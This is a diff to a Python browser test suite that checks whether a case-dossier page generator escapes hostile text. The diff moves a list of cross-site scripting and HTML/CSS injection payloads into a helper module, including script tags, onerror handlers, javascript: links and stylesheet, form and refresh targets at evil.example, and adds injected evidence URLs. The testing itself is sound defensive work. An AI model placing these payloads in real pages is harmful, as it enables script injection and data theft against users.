@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import dataclasses
-import itertools
 import json
 import typing
 from collections.abc import Iterator
@@ -13,9 +12,11 @@ from typing import TYPE_CHECKING, Any
 import chromium
 import pytest
 from dossier_pages import Opened, regions
+from hostile_case import ATTACKS, RUN, dumped, hostile_case
 from pydantic import BaseModel
 
-from skywitness.claims import casemodel
+from skywitness.claims import casemodel, evidencemodel
+from skywitness.claims.case import Claim
 from skywitness.claims.casefile import load_case
 from skywitness.dossier.page import write_page
 from skywitness.errors import CaseError
@@ -32,134 +33,6 @@ FLAGS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "-
          "--disable-background-networking", "--disable-component-update", "--disable-sync"]
 # fmt: on
 
-RUN = "window.pwned=1;alert(1)"
-ATTACKS = (
-    f"<script>{RUN}</script>",
-    f"</title></style></script><script>{RUN}</script>",
-    f'"><img src=x onerror="{RUN}">',
-    f"'><svg onload='{RUN}'><title>",
-    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
-    f"]]></text></svg><foreignObject><body onload={RUN}>",
-    "</style><style>body{display:none;background:url(https://evil.example/a)}</style>",
-    "}</style><link rel=stylesheet href=https://evil.example/a.css>",
-    f"<iframe srcdoc='<script>{RUN}</script>' src=https://evil.example></iframe>",
-    "<base href=https://evil.example/><form action=https://evil.example><button>x</button>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
-    f"<a href=javascript:{RUN}>x</a>",
-    "{{ 7 * 7 }}{% for x in 'ab' %}{{ x }}{% endfor %}${7*7}",
-    "&lt;script&gt;&#60;b&#62;&amp;",
-    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={RUN}>'>",
-    "plain <b> and <!-- and <![CDATA[ and --> and \\x3cscript\\x3e",
-)
-
-_attacks = itertools.cycle(ATTACKS)
-
-
-def bad(label: str) -> str:
-    """The next attack, with a label by which to find it on the page."""
-    return f"{label} {next(_attacks)}"
-
-
-def hostile_case() -> dict[str, Any]:
-    """A case with an attack in every text that a case may hold freely."""
-    # Within a sentence of the claim language a name in quotes may not hold a double quote.
-    reef = "Reef <img src=x onerror=alert(1)></style></text><script>alert(1)</script>"
-    return {
-        "id": "hostile",
-        "title": bad("title"),
-        "summary": "\n".join(("summary", *ATTACKS)),
-        "policy": {"name": bad("policy")},
-        "sources": [
-            {
-                "id": "s",
-                "url": "https://example.org/?q=javascript:alert(1)&lt;",
-                "archived": "http://example.org/#onload=alert(1)",
-                **{
-                    k: bad(f"source {k}")
-                    for k in ("title", "publisher", "author", "licence", "note")
-                },
-            }
-        ],
-        "documents": [
-            {
-                "id": "d",
-                "source": "s",
-                "sha256": "0" * 64,
-                "chars": 10_000,
-                "language": bad("document language"),
-                "note": bad("document note"),
-            }
-        ],
-        "frames": [
-            {"id": "f", "label": bad("frame"), "note": bad("frame note")},
-            {"id": "g", "label": bad("frame two"), "borders": "claimed by FJI"},
-        ],
-        "moments": [
-            {
-                "id": "encounter",
-                "label": bad("moment"),
-                "phrases": ["encounter", bad("phrase")],
-                "given": [f'outside "{reef}"'],
-                "given_source": bad("given source"),
-                "note": bad("moment note"),
-                "kind": bad("kind"),
-            }
-        ],
-        "objects": [
-            {
-                "id": "jet",
-                **{k: bad(f"object {k}") for k in ("label", "note")},
-                "phrases": [bad("object phrase")],
-            }
-        ],
-        "places": [
-            {
-                "name": reef,
-                "also": [bad("also")],
-                "wkt": "POLYGON ((179.5 -17.5, 179.6 -17.5, 179.6 -17.4, 179.5 -17.5))",
-                "error": "1 km",
-                **{k: bad(f"place {k}") for k in ("source", "version", "licence", "view", "note")},
-            }
-        ],
-        "claims": [
-            {
-                "id": "C1",
-                "says": f'encounter is about 60 km northeast of "{reef}"',
-                "source": "s",
-                "chain": [
-                    {"who": bad("speaker"), "stance": "asserts"},
-                    {"who": bad("go-between"), "stance": "reports"},
-                ],
-                "said": bad("said"),
-                "document": "d",
-                "position": 3,
-                "archived": "https://example.org/archived",
-                **{
-                    k: bad(f"claim {k}")
-                    for k in ("quote", "language", "translation", "translator", "note")
-                },
-            },
-            {
-                "id": "C1f",
-                "says": f'there are two "{reef}"',
-                "speaker": bad("counter"),
-            },
-            {
-                "id": "C2",
-                "says": f"not testable: {bad('reason')}",
-                "speaker": bad("plain speaker"),
-                "via": [bad("via")],
-            },
-            {
-                "id": "C3",
-                "says": f'encounter is 500 km from "{reef}"',
-                "speaker": "x",
-                "follows_from": ["C1"],
-            },
-        ],
-    }
-
-
 #: Texts that are read rather than shown: names of shapes, files, quantities and words coupled.
 READ = {
     ("PlaceTable", k)
@@ -170,13 +43,17 @@ READ = {
     ("CaseTable", "shapes"),
     ("ObjectTable", "mover"),
     ("ObjectTable", "type"),
+    ("SpotTable", "error"),
+    ("SightTable", "farthest"),
+    ("TimeTable", "at"),
+    ("TimeTable", "error"),
 }
 
 
 def free_texts() -> set[tuple[str, str]]:
     """Every key of a case whose value is text that is not checked against a pattern."""
     out = set()
-    for name, table in vars(casemodel).items():
+    for name, table in {**vars(casemodel), **vars(evidencemodel)}.items():
         if isinstance(table, type) and issubclass(table, BaseModel) and name != "_Table":
             hints = typing.get_type_hints(table, include_extras=True)
             for key in table.model_fields:
@@ -193,19 +70,6 @@ def strings(value: Any) -> Iterator[str]:
     elif isinstance(value, dict | list):
         for each in value.values() if isinstance(value, dict) else value:
             yield from strings(each)
-
-
-def dumped(case: dict[str, Any]) -> str:
-    """The case as TOML; JSON's strings, numbers and lists are TOML's."""
-
-    def value(x: Any) -> str:
-        if isinstance(x, dict):
-            return "{ " + ", ".join(f"{k} = {value(v)}" for k, v in x.items()) + " }"
-        if isinstance(x, list):
-            return "[" + ", ".join(map(value, x)) + "]"
-        return json.dumps(x, ensure_ascii=False).replace("\x7f", "\\u007f")
-
-    return "".join(f"{k} = {value(v)}\n" for k, v in case.items())
 
 
 @pytest.fixture(scope="module")
@@ -246,6 +110,11 @@ def test_every_free_text_of_a_case_is_attacked() -> None:
         "PlaceTable": case["places"],
         "ClaimTable": case["claims"],
         "LinkTable": case["claims"][0]["chain"],
+        "EvidenceTable": case["evidence"],
+        "LocatorTable": case["evidence"][0]["located_by"],
+        "SpotTable": [case["evidence"][0]["subject"]],
+        "SightTable": [case["evidence"][0]["sight"]],
+        "TimeTable": [case["evidence"][0]["time"]],
     }
     attacked = {
         (name, key)
@@ -346,12 +215,16 @@ def test_addresses_that_slipped_in_are_no_links(
         }
     )
     case = dataclasses.replace(result.case, sources=(source,))
-    claims = tuple(
-        dataclasses.replace(
-            c, claim=dataclasses.replace(c.claim, archived=f"https://a.example/' onclick='{RUN}")
-        )
-        for c in result.claims
-    )
+
+    def slipped(claim: Claim) -> Claim:
+        piece = claim.evidence
+        if piece is not None:
+            row = piece.table.model_copy(update={"url": f"javascript:{RUN}"})
+            piece = dataclasses.replace(piece, table=row)
+        archived = f"https://a.example/' onclick='{RUN}"
+        return dataclasses.replace(claim, archived=archived, evidence=piece)
+
+    claims = tuple(dataclasses.replace(c, claim=slipped(c.claim)) for c in result.claims)
     changed = dataclasses.replace(result, case=case, claims=claims)
     opened = Opened(quiet_browser, write_page(changed, {1.0: ()}, tmp_path))
     links = opened.page.evaluate("[...document.links].map(a => a.getAttribute('href'))")
@@ -425,4 +298,6 @@ def test_printing_shows_what_is_folded(quiet_browser: Browser, file: Path) -> No
     assert not folded.is_visible()
     page.emulate_media(media="print")
     assert folded.is_visible()
-    assert page.locator("article.claim:visible").count() == len(hostile_case()["claims"])
+    case = hostile_case()
+    statements = [*case["claims"], *case["evidence"]]
+    assert page.locator("article.claim:visible").count() == len(statements)
